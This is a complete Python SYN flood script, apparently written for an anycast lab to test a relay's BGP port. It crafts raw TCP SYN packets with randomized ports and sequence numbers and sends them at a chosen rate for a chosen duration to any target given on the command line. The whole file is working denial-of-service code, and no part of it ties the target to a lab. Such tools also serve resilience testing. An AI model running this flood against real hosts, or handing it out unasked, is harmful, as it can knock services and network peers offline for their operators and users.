#!/usr/bin/env python3
"""A TCP SYN flood for the anycast lab: what a stranger can throw at a relay's BGP port.

  syn_flood.py DST PORT PPS SECONDS

Sends PPS SYNs a second for SECONDS to DST:PORT from this host's address (random source
ports and sequence numbers, so every SYN is a new connection attempt), paced in 10 ms
rounds, then prints `sent N`. A raw socket: the kernel adds the IPv4 header, the TCP header
and its checksum are built here.
"""
import random
import socket
import struct
import sys
import time

ROUND_S = 0.01


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src, dst, sport, dport, seq):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def main():
    dst, dport, pps, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    # The source address the kernel will put in the IPv4 header: the route's.
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((dst, dport))
    src = probe.getsockname()[0]
    probe.close()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    rng = random.Random(41)
    per_round = max(1, int(pps * ROUND_S))
    sent = 0
    start = time.monotonic()
    rounds = 0
    while time.monotonic() - start < seconds:
        for _ in range(per_round):
            s.sendto(syn(src, dst, rng.randrange(1024, 65536), dport, rng.getrandbits(32)), (dst, 0))
            sent += 1
        rounds += 1
        pause = start + rounds * ROUND_S - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
